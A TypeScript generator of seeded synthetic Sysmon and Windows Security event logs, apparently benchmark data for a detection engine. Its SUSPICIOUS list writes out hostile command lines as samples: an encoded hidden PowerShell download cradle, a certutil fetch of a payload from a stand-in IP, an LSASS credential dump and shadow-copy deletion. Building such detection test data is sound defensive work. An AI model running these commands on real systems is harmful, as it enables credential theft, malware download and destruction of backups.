// Deterministic NDJSON lanes for the benchmarks. A seeded generator keeps every run byte-identical so
// ratios between runs compare like with like.

export interface Lane {
  readonly name: string;
  readonly lines: readonly string[];
}

/** mulberry32: tiny, fast, good enough for shaping synthetic data. */
export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function pick<T>(r: () => number, xs: readonly T[]): T {
  return xs[Math.floor(r() * xs.length)] as T;
}

const HOSTS = ['WS-FIN-01', 'WS-FIN-02', 'WS-HR-07', 'SRV-DC-01', 'SRV-SQL-03', 'LAPTOP-DEV-11'];
const USERS = ['CORP\\alice', 'CORP\\bob', 'CORP\\carol', 'NT AUTHORITY\\SYSTEM', 'CORP\\svc_backup'];
const BENIGN = [
  ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule'],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US'],
  ['C:\\Windows\\explorer.exe', 'C:\\Windows\\Explorer.EXE'],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"WINWORD.EXE" /n "C:\\Users\\alice\\Documents\\report.docx"'],
  ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1'],
  ['C:\\Windows\\System32\\taskhostw.exe', 'taskhostw.exe Install $(Arg0)'],
] as const;
const SUSPICIOUS = [
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
  ['C:\\Windows\\System32\\whoami.exe', 'whoami /all'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.7/payload.exe C:\\Users\\Public\\p.exe'],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full'],
  ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'],
] as const;

function guid(r: () => number): string {
  const h = () => Math.floor(r() * 0x10000).toString(16).toUpperCase().padStart(4, '0');
  return `{${h()}${h()}-${h()}-${h()}-${h()}-${h()}${h()}${h()}}`;
}

/** `digits` random uppercase hex digits, as hashes are printed. */
function hex(r: () => number, digits: number): string {
  let out = '';
  while (out.length < digits) out += Math.floor(r() * 0x10000).toString(16).toUpperCase().padStart(4, '0');
  return out.slice(0, digits);
}

function timestamp(i: number): string {
  return new Date(Date.UTC(2026, 0, 1) + i * 37).toISOString().replace('T', ' ').slice(0, 23);
}

/**
 * Sysmon process creation (EventID 1, numeric), about 1 % suspicious command lines. With
 * `uniqueCommandLines`, every command line (and parent command line) carries an argument of its own, so
 * no command line repeats: the engine's per-field caches of probe results then help only the other fields.
 */
export function processCreationLane(n: number, seed = 1, uniqueCommandLines = false): Lane {
  const r = rng(seed);
  const lines: string[] = [];
  const unique = (cmd: string, i: number, who: string): string => (uniqueCommandLines ? `${cmd} /trace:${who}${i.toString(16)}` : cmd);
  for (let i = 0; i < n; i++) {
    const [image, baseCmd] = r() < 0.01 ? pick(r, SUSPICIOUS) : pick(r, BENIGN);
    const [parent, baseParentCmd] = pick(r, BENIGN);
    const cmd = unique(baseCmd, i, 'c');
    const parentCmd = unique(baseParentCmd, i, 'p');
    lines.push(
      JSON.stringify({
        EventID: 1,
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: pick(r, HOSTS),
        Provider_Name: 'Microsoft-Windows-Sysmon',
        UtcTime: timestamp(i),
        ProcessGuid: guid(r),
        ProcessId: Math.floor(r() * 20000),
        Image: image,
        FileVersion: '10.0.19041.1',
        Description: 'Windows process',
        Product: 'Microsoft® Windows® Operating System',
        Company: 'Microsoft Corporation',
        OriginalFileName: image.slice(image.lastIndexOf('\\') + 1),
        CommandLine: cmd,
        CurrentDirectory: 'C:\\Windows\\system32\\',
        User: pick(r, USERS),
        LogonGuid: guid(r),
        LogonId: '0x3e7',
        TerminalSessionId: 1,
        IntegrityLevel: pick(r, ['Medium', 'High', 'System']),
        Hashes: `SHA256=${hex(r, 64)}`,
        ParentProcessGuid: guid(r),
        ParentProcessId: Math.floor(r() * 20000),
        ParentImage: parent,
        ParentCommandLine: parentCmd,
        ParentUser: pick(r, USERS),
      }),
    );
  }
  return { name: uniqueCommandLines ? 'sysmon-process-creation, unique command lines' : 'sysmon-process-creation', lines };
}

/** Sysmon file creation with EventID as a string, as some shippers send it. */
export function fileEventLane(n: number, seed = 2): Lane {
  const r = rng(seed);
  const dirs = ['C:\\Users\\alice\\AppData\\Local\\Temp\\', 'C:\\ProgramData\\', 'C:\\Windows\\Temp\\', 'C:\\Users\\Public\\'];
  const exts = ['.tmp', '.log', '.dat', '.json', '.docx', '.xlsx', '.ps1', '.dll'];
  const lines: string[] = [];
  for (let i = 0; i < n; i++) {
    const [image] = pick(r, BENIGN);
    lines.push(
      JSON.stringify({
        EventID: '11',
        Channel: 'Microsoft-Windows-Sysmon/Operational',
        Computer: pick(r, HOSTS),
        RuleName: '-',
        UtcTime: timestamp(i),
        ProcessGuid: guid(r),
        ProcessId: Math.floor(r() * 20000),
        Image: image,
        TargetFilename: `${pick(r, dirs)}f${Math.floor(r() * 1e6)}${pick(r, exts)}`,
        CreationUtcTime: timestamp(i),
        User: pick(r, USERS),
      }),
    );
  }
  return { name: 'sysmon-file-event', lines };
}

/** About 2 KB of raw Windows event text in a single `message` field (keyword rules do the work). */
export function rawMessageLane(n: number, seed = 3): Lane {
  const r = rng(seed);
  const lines: string[] = [];
  for (let i = 0; i < n; i++) {
    const [image, cmd] = r() < 0.01 ? pick(r, SUSPICIOUS) : pick(r, BENIGN);
    const parts = [
      `A new process has been created.`,
      `Creator Subject: Security ID: S-1-5-21-${Math.floor(r() * 1e9)} Account Name: ${pick(r, USERS)} Logon ID: 0x3E7`,
      `Target Subject: Security ID: NULL SID Account Name: - Account Domain: - Logon ID: 0x0`,
      `Process Information: New Process ID: 0x${Math.floor(r() * 65535).toString(16)} New Process Name: ${image}`,
      `Token Elevation Type: %%1936 Mandatory Label: Mandatory Label\\High Mandatory Level`,
      `Creator Process ID: 0x${Math.floor(r() * 65535).toString(16)} Creator Process Name: C:\\Windows\\explorer.exe`,
      `Process Command Line: ${cmd}`,
    ];
    let message = parts.join('\r\n\t');
    while (message.length < 2000) message += `\r\n\tToken Elevation Type indicates the type of token that was assigned to the new process ${guid(r)}.`;
    lines.push(JSON.stringify({ host: pick(r, HOSTS), source: 'WinEventLog:Security', message }));
  }
  return { name: 'raw-message', lines };
}

export function allLanes(n: number): Lane[] {
  return [processCreationLane(n), processCreationLane(n, 1, true), fileEventLane(n), rawMessageLane(n)];
}
